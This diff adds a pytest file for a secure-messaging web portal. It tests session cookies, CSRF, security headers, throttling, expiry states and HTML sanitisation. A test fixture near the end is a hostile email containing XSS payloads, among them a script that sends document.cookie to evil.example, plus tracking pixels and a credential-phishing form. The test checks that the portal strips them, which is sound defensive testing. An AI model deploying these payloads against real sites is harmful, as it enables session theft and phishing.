@@ -1,0 +1,374 @@
+"""``secmsg portal serve``'s app, route by route with Starlette's TestClient,
+over the demo store with every demo message delivered: every state a copy
+can be in, the token exchanged for a session, CSRF, the security headers,
+the throttle, and what each action writes to the store and the outbox.
+
+Copies (see tests/web/conftest.py): 1 is Martin's under "Legal/7-Day Expiry,
+Receipt" (reply only, a read receipt, expires 2026-12-04 10:00), 2 Martin's
+under "Legal/Client Correspondence" (view, print, reply, reply all)."""
+
+from __future__ import annotations
+
+import json
+import sqlite3
+from datetime import UTC, datetime
+
+import pytest
+
+from tests.helpers import ok
+from tests.web.conftest import outbox_kinds
+
+AFTER_EXPIRY = datetime(2026, 12, 5, 12, 0, tzinfo=UTC)
+
+
+def sign_in(client, token: str):
+    r = client.get(f"/portal?token={token}")
+    assert r.status_code == 303, r.text
+    return r
+
+
+def audit(portal, action: str) -> list[dict]:
+    with sqlite3.connect(portal.db) as conn:
+        rows = conn.execute(
+            "SELECT object, after FROM audit WHERE action = ? ORDER BY id", (action,)
+        ).fetchall()
+    return [{"object": o, **json.loads(a or "{}")} for o, a in rows]
+
+
+def read_at(portal, copy_id: int) -> str | None:
+    with sqlite3.connect(portal.db) as conn:
+        return conn.execute(
+            "SELECT read_at FROM portal_copies WHERE id = ?", (copy_id,)
+        ).fetchone()[0]
+
+
+def csrf_of(page: str) -> str:
+    import re
+
+    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)
+
+
+# --- the link, the session ------------------------------------------------------------------
+
+
+def test_the_link_is_exchanged_for_a_session_cookie_and_a_url_without_the_token(portal):
+    client = portal.client()
+    token = portal.tokens()[2]
+    r = sign_in(client, token)
+    assert r.headers["location"] == "/portal/"
+    cookie = r.headers["set-cookie"]
+    assert cookie.startswith("secmsg_portal=")
+    flags = {part.strip().lower() for part in cookie.split(";")[1:]}
+    assert {"httponly", "samesite=strict", "path=/portal"} <= flags
+    assert not any(f.startswith("secure") for f in flags)  # plain http here: https adds Secure
+    assert token not in cookie and token.split(".")[1] not in r.text
+    assert read_at(portal, 2) is None  # signing in is not reading
+    page = client.get("/portal/")
+    assert page.status_code == 200
+    assert "Engagement letter and next steps" in page.text
+    assert read_at(portal, 2) == "2026-11-28T09:00:00+00:00"
+    assert [a["object"] for a in audit(portal, "open")] == ["2"]
+
+
+def test_over_https_the_cookie_is_secure(portal):
+    from starlette.testclient import TestClient
+
+    client = TestClient(portal.app(), base_url="https://testserver", follow_redirects=False)
+    r = sign_in(client, portal.tokens()[2])
+    assert "secure" in r.headers["set-cookie"].lower().split("; ")
+
+
+def test_a_link_followed_from_another_site_gets_a_page_that_leads_on(portal):
+    """A redirect of a cross-site navigation would not carry the SameSite=Strict cookie."""
+    client = portal.client()
+    r = client.get(f"/portal?token={portal.tokens()[2]}", headers={"Sec-Fetch-Site": "cross-site"})
+    assert r.status_code == 200
+    assert r.headers["refresh"] == "0; url=/portal/"
+    assert 'href="/portal/"' in r.text and "samesite=strict" in r.headers["set-cookie"].lower()
+    assert client.get("/portal/").status_code == 200
+
+
+def test_without_a_session_the_pages_say_to_open_the_link_again(portal):
+    client = portal.client()
+    for path in ("/portal/", "/portal/print", "/portal/sent"):
+        r = client.get(path)
+        assert r.status_code == 401 and "Open the link in your notification again" in r.text
+    r = client.post("/portal/reply", data={"body": "x", "csrf": "x"})
+    assert r.status_code == 401
+    client.cookies.set("secmsg_portal", "made-up", path="/portal")
+    assert client.get("/portal/").status_code == 401
+
+
+def test_a_session_ends_after_its_idle_time(portal):
+    client = portal.client(session_seconds=60)
+    sign_in(client, portal.tokens()[2])
+    assert client.get("/portal/").status_code == 200
+    portal.tick[0] += 59
+    assert client.get("/portal/").status_code == 200  # used: its idle time starts again
+    portal.tick[0] += 61
+    assert client.get("/portal/").status_code == 401
+
+
+# --- states -----------------------------------------------------------------------------
+
+
+def test_fresh_then_read_the_read_receipt_only_once(portal):
+    client = portal.client()
+    sign_in(client, portal.tokens()[1])
+    before = len(outbox_kinds(portal.outbox))
+    page = client.get("/portal/")
+    assert page.status_code == 200 and "Project Heron" in page.text
+    kinds = outbox_kinds(portal.outbox)
+    assert kinds[before:] == [("read-receipt", "Alice Morgan <alice.morgan@harborfinch.com>")]
+    portal.now[0] = portal.now[0].replace(hour=10)
+    assert client.get("/portal/").status_code == 200
+    assert len(outbox_kinds(portal.outbox)) == before + 1  # read already: no second receipt
+    assert read_at(portal, 1) == "2026-11-28T09:00:00+00:00"
+
+
+def test_the_page_enables_exactly_what_the_definition_allows(portal):
+    client = portal.client()
+    sign_in(client, portal.tokens()[1])
+    page = client.get("/portal/").text
+    assert "<fieldset>" in page  # the reply form works
+    assert 'id="reply-all" disabled' in page and 'id="print" disabled' in page
+    assert "Reply to all is not allowed" in page and "Printing is not allowed" in page
+    assert 'class="no-print"' in page  # print CSS hides the message
+    client2 = portal.client()
+    sign_in(client2, portal.tokens()[2])
+    page2 = client2.get("/portal/").text
+    assert " disabled" not in page2 and 'class="no-print"' not in page2
+
+
+def test_expired_without_expired_view(portal):
+    client = portal.client()
+    sign_in(client, portal.tokens()[1])
+    assert client.get("/portal/").status_code == 200
+    portal.now[0] = AFTER_EXPIRY
+    for r in (client.get("/portal/"), client.get(f"/portal?token={portal.tokens()[1]}")):
+        assert r.status_code == 410
+        assert "This secure message has expired" in r.text
+        assert "2026-12-04 10:00 GMT" in r.text and "Project Heron" not in r.text
+    assert [d["reason"] for d in audit(portal, "access-denied")] == ["expired", "expired"]
+
+
+def test_expired_with_expired_view_shows_it_but_no_reply(portal):
+    ok(portal.cli("account", "set", "--expired-view"))
+    client = portal.client()
+    portal.now[0] = datetime(2026, 12, 28, tzinfo=UTC)  # copy 2 expired 2026-12-27 10:00
+    sign_in(client, portal.tokens()[2])
+    page = client.get("/portal/")
+    assert page.status_code == 200
+    assert "This secure message expired on 2026-12-27 10:00 GMT" in page.text
+    assert (
+        "<fieldset disabled>" in page.text and "Replies are not possible after expiry" in page.text
+    )
+    assert 'id="print" disabled' not in page.text
+    r = client.post("/portal/reply", data={"body": "late", "csrf": csrf_of(page.text)})
+    assert r.status_code == 403 and "Replying is not allowed" in r.text
+    assert not [k for k, _ in outbox_kinds(portal.outbox) if k == "reply"]
+    assert client.get("/portal/print").status_code == 200
+
+
+def test_recalled(portal):
+    client = portal.client()
+    ok(portal.cli("portal", "recall", "3", "--at", "2026-11-27T11:00:00Z"))
+    r = client.get(f"/portal?token={portal.tokens()[3]}")
+    assert r.status_code == 410 and "no longer available" in r.text
+    assert "expenses" not in r.text
+
+
+def test_revoked_after_the_session_began(portal):
+    client = portal.client()
+    sign_in(client, portal.tokens()[2])
+    assert client.get("/portal/").status_code == 200
+    ok(portal.cli("portal", "revoke", "2", "--at", "2026-11-28T09:30:00Z"))
+    r = client.get("/portal/")
+    assert r.status_code == 410
+    assert "This secure message was revoked" in r.text and "2026-11-28 09:30 GMT" in r.text
+    assert client.get("/portal/print").status_code == 410
+
+
+@pytest.mark.parametrize(
+    "make",
+    [
+        lambda t: t[:-1] + ("A" if t[-1] != "A" else "B"),  # the right id, a wrong secret
+        lambda t: "0" * 12 + t[12:],  # an id no copy has
+        lambda t: t[:20],  # truncated
+        lambda t: "<script>alert(1)</script>",
+    ],
+    ids=["wrong-secret", "unknown-id", "truncated", "garbage"],
+)
+def test_a_wrong_token_gets_the_one_refusal_page(portal, make):
+    client = portal.client()
+    token = portal.tokens()[2]
+    r = client.get("/portal", params={"token": make(token)})
+    assert r.status_code == 403
+    assert "This link does not open a secure message" in r.text
+    assert "set-cookie" not in r.headers and "<script>alert" not in r.text
+    reference = client.get("/portal", params={"token": "f" * 12 + "." + "A" * 43})
+    assert reference.text == r.text  # nothing tells whether the id exists
+    denied = audit(portal, "access-denied")
+    assert denied[0]["reason"] == "invalid token" and token not in json.dumps(denied)
+
+
+# --- actions --------------------------------------------------------------------------
+
+
+def test_reply_goes_to_the_outbox_and_the_page_says_so(portal):
+    client = portal.client()
+    sign_in(client, portal.tokens()[2])
+    page = client.get("/portal/").text
+    r = client.post(
+        "/portal/reply", data={"body": "Received, thanks.", "all": "0", "csrf": csrf_of(page)}
+    )
+    assert r.status_code == 303 and r.headers["location"] == "/portal/sent"
+    sent = client.get("/portal/sent")
+    assert "Your reply was sent to farah.nasser@harborfinch.com." in sent.text
+    replies = [to for kind, to in outbox_kinds(portal.outbox) if kind == "reply"]
+    assert replies == ["Farah Nasser <farah.nasser@harborfinch.com>"]
+    assert [a["object"] for a in audit(portal, "reply")] == ["2"]
+    assert client.get("/portal/sent").status_code == 303  # said once
+
+
+def test_reply_all_refused_where_the_definition_does_not_allow_it(portal):
+    client = portal.client()
+    sign_in(client, portal.tokens()[1])
+    page = client.get("/portal/").text
+    r = client.post("/portal/reply", data={"body": "to all", "all": "1", "csrf": csrf_of(page)})
+    assert r.status_code == 403 and "Reply to all is not allowed" in r.text
+    assert not [k for k, _ in outbox_kinds(portal.outbox) if k == "reply"]
+
+
+def test_an_empty_reply_shows_the_form_again(portal):
+    client = portal.client()
+    sign_in(client, portal.tokens()[2])
+    page = client.get("/portal/").text
+    r = client.post("/portal/reply", data={"body": "  \n", "csrf": csrf_of(page)})
+    assert r.status_code == 400 and "The reply is empty." in r.text
+    assert 'name="csrf"' in r.text
+
+
+@pytest.mark.parametrize("csrf", [None, "", "wrong"])
+def test_a_form_without_the_session_csrf_token_is_refused(portal, csrf):
+    client = portal.client()
+    sign_in(client, portal.tokens()[2])
+    client.get("/portal/")
+    data = {"body": "forged"} | ({} if csrf is None else {"csrf": csrf})
+    r = client.post("/portal/reply", data=data)
+    assert r.status_code == 403 and "The form has expired" in r.text
+    assert not [k for k, _ in outbox_kinds(portal.outbox) if k == "reply"]
+
+
+def test_print_refused_where_not_allowed_and_served_where_allowed(portal):
+    client = portal.client()
+    sign_in(client, portal.tokens()[1])
+    r = client.get("/portal/print")
+    assert r.status_code == 403 and "Printing is not allowed" in r.text
+    client2 = portal.client()
+    sign_in(client2, portal.tokens()[2])
+    r2 = client2.get("/portal/print")
+    assert r2.status_code == 200 and "Printed from the Secure Messaging Portal" in r2.text
+    csp = r2.headers["content-security-policy"]
+    assert "style-src 'sha256-" in csp and "unsafe-inline" not in csp
+    assert [a["object"] for a in audit(portal, "print")] == ["2"]
+
+
+# --- security --------------------------------------------------------------------------
+
+
+def test_every_answer_has_the_security_headers(portal):
+    client = portal.client()
+    answers = [
+        client.get("/portal/"),
+        client.get("/portal?token=nothing"),
+        client.get("/elsewhere"),
+        sign_in(client, portal.tokens()[2]),
+        client.get("/portal/"),
+        client.get("/portal/print"),
+    ]
+    for r in answers:
+        csp = r.headers["content-security-policy"]
+        assert csp.startswith("default-src 'none'") and "frame-ancestors 'none'" in csp
+        assert "script-src" not in csp and "unsafe" not in csp
+        assert r.headers["referrer-policy"] == "no-referrer"
+        assert r.headers["x-content-type-options"] == "nosniff"
+        assert r.headers["cache-control"] == "no-store"
+        assert "<script" not in r.text
+
+
+def test_the_page_style_is_allowed_by_its_hash(portal):
+    from secmsg_cli.web import pages
+
+    client = portal.client()
+    sign_in(client, portal.tokens()[2])
+    r = client.get("/portal/")
+    assert pages.style_hash() in r.headers["content-security-policy"]
+    assert 'style="' not in r.text  # no inline style attribute (the CSP would block it)
+
+
+def test_failed_attempts_are_throttled_per_client_and_audited_once(portal):
+    client = portal.client(attempts=3, window_seconds=600)
+    bad = "a" * 12 + "." + "B" * 43
+    for _ in range(3):
+        assert client.get("/portal", params={"token": bad}).status_code == 403
+    r = client.get("/portal", params={"token": portal.tokens()[2]})  # even a right one waits
+    assert r.status_code == 429 and int(r.headers["retry-after"]) > 0
+    assert client.get("/portal", params={"token": bad}).status_code == 429
+    reasons = [d["reason"] for d in audit(portal, "access-denied")]
+    assert reasons == ["invalid token"] * 3 + ["throttled"]
+    throttled = audit(portal, "access-denied")[-1]
+    assert throttled["client"] == "testclient" and throttled["failures"] == 3
+    portal.tick[0] += 601
+    assert client.get("/portal", params={"token": portal.tokens()[2]}).status_code == 303
+
+
+HOSTILE = """\
+From: Alice Morgan <alice.morgan@harborfinch.com>
+To: m.okonkwo@lexpartners.com
+Subject: Confidential: hostile markup
+Message-ID: <hostile-1@harborfinch.com>
+Date: Thu, 26 Nov 2026 09:14:05 +0000
+MIME-Version: 1.0
+Content-Type: text/html; charset=utf-8
+
+<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
+<style>body{background:url(https://evil.example/track.png)}</style>
+<script>document.location='https://evil.example/?c='+document.cookie</script></head>
+<body onload="steal()"><p style="background:url(https://evil.example/p.png)">Dear Martin,</p>
+<img src="https://evil.example/pixel.gif" onerror="alert(1)">
+<a href="javascript:alert(1)">click</a> <a href="https://example.com/doc">the document</a>
+<form action="https://evil.example/"><input name="password"></form>
+<iframe src="https://evil.example/"></iframe><svg onload="alert(1)"></svg>
+<p>Regards</p></body></html>
+"""
+
+
+def test_hostile_message_html_is_sanitised(portal, tmp_path):
+    eml = tmp_path / "hostile.eml"
+    eml.write_text(HOSTILE)
+    ok(portal.cli("-q", "deliver", eml, "--outbox", portal.outbox, "--at", "2026-11-27T10:00:00Z"))
+    new_id = max(portal.tokens())
+    client = portal.client()
+    sign_in(client, portal.tokens()[new_id])
+    page = client.get("/portal/").text
+    body = page[page.index('<div class="body"') : page.index('<div class="actions"')]
+    assert "Dear Martin," in body and "Regards" in body
+    for bad in (
+        "<script",
+        "onload",
+        "onerror",
+        "javascript:",
+        "<meta",
+        "url(",
+        "evil.example",
+        "<img",
+        "<form",
+        "<input",
+        "<iframe",
+        "<svg",
+        "<style",
+        "style=",
+    ):
+        assert bad not in body.lower(), bad
+    assert '<a href="https://example.com/doc" rel="noopener noreferrer">the document</a>' in body
